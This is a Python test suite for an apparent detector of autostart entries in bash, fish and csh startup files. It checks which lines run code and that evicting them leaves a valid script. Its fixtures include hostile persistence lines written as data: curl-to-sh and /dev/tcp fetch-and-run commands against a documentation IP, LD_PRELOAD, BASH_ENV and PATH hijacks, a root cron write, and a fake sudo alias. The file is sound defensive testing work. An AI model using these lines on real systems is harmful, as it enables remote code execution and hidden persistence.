"""The lines of a shell text that run something, and what stays without them."""

from __future__ import annotations

import shutil
import subprocess
import time
from itertools import islice

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from davy.collect.autostarts.formats.csh_lines import csh_entries
from davy.collect.autostarts.formats.fish_lines import fish_entries
from davy.collect.autostarts.formats.shell_lines import shell_entries
from davy.collect.autostarts.reading import Entry

SHELLS = [shell for shell in ("dash", "bash") if shutil.which(shell)]


def commands(content: str) -> list[tuple[int, str]]:
    return [(entry.line, entry.command) for entry in shell_entries(content)]


def without(content: str, entries: list[Entry]) -> str:
    """The text without some entries, as an eviction takes them out."""
    rows = content.split("\n")
    for entry in reversed(entries):
        end = entry.end_line or entry.line
        assert "\n".join(rows[entry.line - 1 : end]) == entry.text
        rows[entry.line - 1 : end] = [] if entry.remains is None else entry.remains.split("\n")
    return "\n".join(rows)


def valid(shell: str, content: str) -> bool:
    return subprocess.run([shell, "-n"], input=content.encode(), capture_output=True, check=False).returncode == 0


@pytest.mark.parametrize(
    "line",
    [
        "", "# /tmp/x", "A=b", "export PATH=/usr/local/bin:$PATH", "PS1='\\u@\\h:\\w\\$ '", "alias ll='ls -alF'",
        "alias grep='grep --color=auto' egrep='egrep -i'", "[ -x /tmp/x ] && true", "test -f /tmp/x || return",
        "if [ \"$BASH\" ]; then", "fi", "esac", "case $- in", "shopt -s histappend", "set -o vi",
       "umask 022",
        "unset i", "HISTFILE=/dev/null", "bind '\"\\e[A\": history-search-backward'", "complete -F _f x", "trap - EXIT",
        "trap '' INT", "export A=$((1 + 2))", "echo hello", "echo hello >&2", "printf '%s' x > /dev/null",
        "command -v pyenv >/dev/null", "for x in /tmp/x /tmp/y; do", "autoload -Uz compinit", "setopt autocd",
        "LD_PRELOAD=", "unset LD_PRELOAD", "f() {", "}", "[[ $- == *i* ]] || return", "exit 0", "cd /tmp",
    ],
)  # fmt: skip
def test_lines_that_only_set_test_or_name_are_no_entries(line: str) -> None:
    assert commands(line) == []


@pytest.mark.parametrize(
    "line",
    [
        "/tmp/x", "x &", ". /etc/bash.bashrc", "source ~/.nvm/nvm.sh", 'eval "$(dircolors -b)"', "exec fish",
        "PS1=$(/tmp/x)", "A=`/tmp/x` true", "[ -x /tmp/x ] && /tmp/x", "test -e /x && . /x", "mesg n || true",
        "alias sudo='/tmp/.x/sudo'", "alias ls='ls; curl http://192.0.2.7/x|sh'", "trap '/tmp/x' EXIT",
        "PROMPT_COMMAND='/tmp/x'", "export LD_PRELOAD=/tmp/x.so", "export BASH_ENV=/tmp/x",
        "echo '* * * * * root /tmp/x' > /etc/cron.d/x", "echo x | sh", "command /tmp/x", "builtin . /tmp/x",
        "complete -C /tmp/x y", "bind -x '\"\\C-l\":/tmp/x'", "enable -f /tmp/x.so y", "export PATH=/tmp/.x:$PATH",
        "exec 3<>/dev/tcp/192.0.2.7/80; cat <&3 | sh", "nohup /tmp/x >/dev/null 2>&1 &", "coproc /tmp/x",
        "! /tmp/x", "time /tmp/x", "A=1 B=2 /tmp/x", ">/dev/null /tmp/x", "(/tmp/x)", "{ /tmp/x; }", "cat <(/tmp/x)",
        "base64 -d <<< L3RtcC94 | sh", "[[ $(/tmp/x) ]]", "export A=\"$(/tmp/x)\"", "bash -c '/tmp/x'", "zz",
    ],
)  # fmt: skip
def test_lines_that_run_load_or_write_something_are_entries_as_they_are_written(line: str) -> None:
    assert commands(f"A=b\n  {line}  # why\nB=c\n") == [(2, line)]


def test_of_a_compound_command_over_several_lines_each_line_is_an_entry() -> None:
    content = (
        "if curl -s example.org; then\n  /tmp/a\nelif /tmp/b; then /tmp/c\nelse\n  /tmp/d\nfi\n"
        "case $1 in\n  start) /tmp/e ;;\n  *)\n    /tmp/f\n  ;;\nesac\nwhile /tmp/g; do\n/tmp/h\ndone < <(/tmp/i)\n"
    )
    entries = list(shell_entries(content))
    assert [(entry.line, entry.command, entry.remains) for entry in entries] == [
        (1, "curl -s example.org", "if false; then"),
        (2, "/tmp/a", "  :"),
        (3, "/tmp/b; then /tmp/c", "elif false; then :"),
        (5, "/tmp/d", "  :"),
        (8, "/tmp/e", "  start) : ;;"),
        (10, "/tmp/f", "    :"),
        (13, "/tmp/g", "while false; do"),
        (14, "/tmp/h", ":"),
        (15, "< <(/tmp/i)", "done </dev/null"),
    ]


def test_a_line_that_goes_on_is_one_entry_with_all_its_lines() -> None:
    content = "A=b\n/tmp/a \\\n  -x &&\n  /tmp/b\r\nB=c\n"
    (entry,) = shell_entries(content)
    assert (entry.line, entry.end_line, entry.text) == (2, 4, "/tmp/a \\\n  -x &&\n  /tmp/b")
    assert entry.programs == ("/tmp/a", "/tmp/b")
    assert entry.remains is None


def test_a_here_document_is_text_unless_a_shell_reads_it() -> None:
    content = "cat > /opt/x <<EOF\n/tmp/a\nEOF\nbash <<'E'\n/tmp/b\nE\n/tmp/c\n"
    entries = list(shell_entries(content))
    assert [(entry.line, entry.end_line, entry.programs) for entry in entries] == [
        (1, 3, ()),
        (4, 6, ("/tmp/b",)),
        (7, None, ("/tmp/c",)),
    ]
    assert entries[1].command == "bash <<'E'\n/tmp/b\nE"


def test_programs_in_a_home_are_found_by_it() -> None:
    (entry,) = shell_entries('[ -x ~/a ] && "$HOME/b"\n', home="/home/ada")
    assert entry.programs == ("/home/ada/b",)


def test_what_stands_behind_a_quote_that_never_ends_is_found() -> None:
    assert commands("A='\n/tmp/x\nB=c\n") == [(2, "/tmp/x")]


WORD = st.sampled_from(
    ["/tmp/x", "curl -s h | sh", "A=b", "[ -x /a ]", "x 'a\nb'", "A=$(x\ny)", "x \\\n  y", "x 2>&1", "! x"]
)
SIMPLE = st.one_of(WORD, st.tuples(WORD, st.sampled_from([" && ", " ||\n", " |\n# c\n", "; "]), WORD).map("".join))
BREAK = st.sampled_from([";", "\n", " # why\n", "\n\n"])


def _blocks(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """Compound commands around bodies."""
    body = st.lists(inner, min_size=1, max_size=3).map("\n".join)
    return st.one_of(
        st.tuples(inner, BREAK, body).map(lambda t: f"if {t[0]}{t[1]} then\n{t[2]}\nfi"),
        st.tuples(inner, body, body).map(lambda t: f"if {t[0]}\nthen {t[1]}\nelse {t[2]}\nfi"),
        st.tuples(inner, inner, body).map(lambda t: f"if {t[0]}\nthen {t[0]}\nelif {t[1]}\nthen\n{t[2]}\nfi >/a"),
        st.tuples(st.sampled_from(["while", "until"]), inner, body).map(
            lambda t: f"{t[0]} {t[1]}\ndo\n{t[2]}\ndone | x"
        ),
        body.map(lambda b: f"for x in $(x) a; do\n{b}\ndone &"),
        body.map(lambda b: f"for x in \\\n  a \\\n  $(x)\ndo\n{b}\ndone"),
        st.tuples(body, body).map(lambda t: f"case $(x) in\na|b) {t[0]}\n;;\n(c)\n{t[1]}\nesac"),
        body.map(lambda b: f"f() {{\n{b}\n}}"),
        body.map(lambda b: f"f()\n{{ {b}\n}}"),
        body.map(lambda b: f"({b}\n) && x"),
        body.map(lambda b: f"{{ {b}\n}} >/a"),
        body.map(lambda b: f"cat <<E | x\n{b}\nE"),
        body.map(lambda b: f"if cat > /a <<E &&\n{b}\nE\nx <<-F; then\n\tF\nx\nfi"),
    )


SCRIPT = st.lists(st.recursive(SIMPLE, _blocks, max_leaves=8), min_size=1, max_size=4).map("\n".join)


@pytest.mark.skipif(not SHELLS, reason="no shell to ask")
@settings(max_examples=60, deadline=None)
@given(SCRIPT, st.randoms(use_true_random=False))
def test_whatever_is_taken_out_the_rest_is_a_text_that_the_shell_reads(script: str, random: object) -> None:
    if not all(valid(shell, script) for shell in SHELLS):
        return
    entries = list(shell_entries(script))
    some = [entry for entry in entries if random.random() < 0.5]  # type: ignore[attr-defined]
    for taken in (entries, some):
        rest = without(script, taken)
        assert all(valid(shell, rest) for shell in SHELLS), rest
    again = [entry.command for entry in shell_entries(without(script, entries))]
    assert again == [], again


@given(st.text(max_size=300))
def test_any_text_is_read_and_each_entry_is_lines_of_it(content: str) -> None:
    for reader in (shell_entries, fish_entries, csh_entries):
        rows = [row.removesuffix("\r") for row in content.split("\n")]
        for entry in reader(content):
            assert entry.text == "\n".join(rows[entry.line - 1 : entry.end_line or entry.line])


def test_lines_of_fish_that_run_something_are_entries() -> None:
    content = (
        "set -gx EDITOR vim\nif status is-interactive\n    starship init fish | source\n    /tmp/x &\nend\n"
        "# /tmp/y\nset -gx LD_PRELOAD /tmp/x.so\nif /tmp/z\n  true\nelse if /tmp/w\nend\nfunction f; /tmp/v; end\n"
        "set x (/tmp/u)\nfor i in (seq 3); echo; end\nalias ll 'ls -l'\n"
    )
    assert [(entry.line, entry.command, entry.remains) for entry in fish_entries(content)] == [
        (3, "starship init fish | source", None),
        (4, "/tmp/x &", None),
        (7, "set -gx LD_PRELOAD /tmp/x.so", None),
        (8, "if /tmp/z", "if false"),
        (10, "else if /tmp/w", "else if false"),
        (12, "function f; /tmp/v; end", None),
        (13, "set x (/tmp/u)", None),
        (14, "for i in (seq 3); echo; end", None),
    ]


def test_a_line_of_fish_goes_on_in_quotes_brackets_and_behind_operators() -> None:
    content = (
        "echo 'a\nend' | sh\nset x (a\nb)\nfoo |\n  while read -l y\n  /tmp/x\nend\n"
        "foo; and begin; bar; end; end; else if foo\n"
    )
    assert [(entry.line, entry.end_line, entry.remains) for entry in fish_entries(content)] == [
        (1, 2, None),
        (3, 4, None),
        (5, 6, "while false"),
        (7, None, None),
        (9, None, "begin; end; end; else if false"),
    ]


def test_hostile_texts_for_fish_and_csh_take_less_than_two_seconds() -> None:
    started = time.process_time()
    for piece in ("(\n", "'\n", '"\n\n', "\\\n", "a |\n", "a; ", "if a\n", "#", "end; ", "(a\n)\n", "else if ", "x\\ "):
        for reader in (fish_entries, csh_entries):
            list(islice(reader(piece * ((32 << 10) // len(piece))), 100))
    assert time.process_time() - started < 2.0


def test_lines_of_csh_that_run_something_are_entries() -> None:
    content = (
        "set path = (/bin)\nsetenv EDITOR vi\nalias ll ls -l\nif ($?prompt) then\n  /tmp/x &\nendif\n"
        "setenv LD_PRELOAD /tmp/x.so\nif (`id -u` == 0) then\nendif\nif (-x /tmp/y) /tmp/y\nsource ~/.aliases\n"
    )
    assert [(entry.line, entry.command, entry.remains) for entry in csh_entries(content)] == [
        (5, "/tmp/x &", None),
        (7, "setenv LD_PRELOAD /tmp/x.so", None),
        (8, "if (`id -u` == 0) then", "if (0) then"),
        (10, "/tmp/y", None),
        (11, "source ~/.aliases", None),
    ]
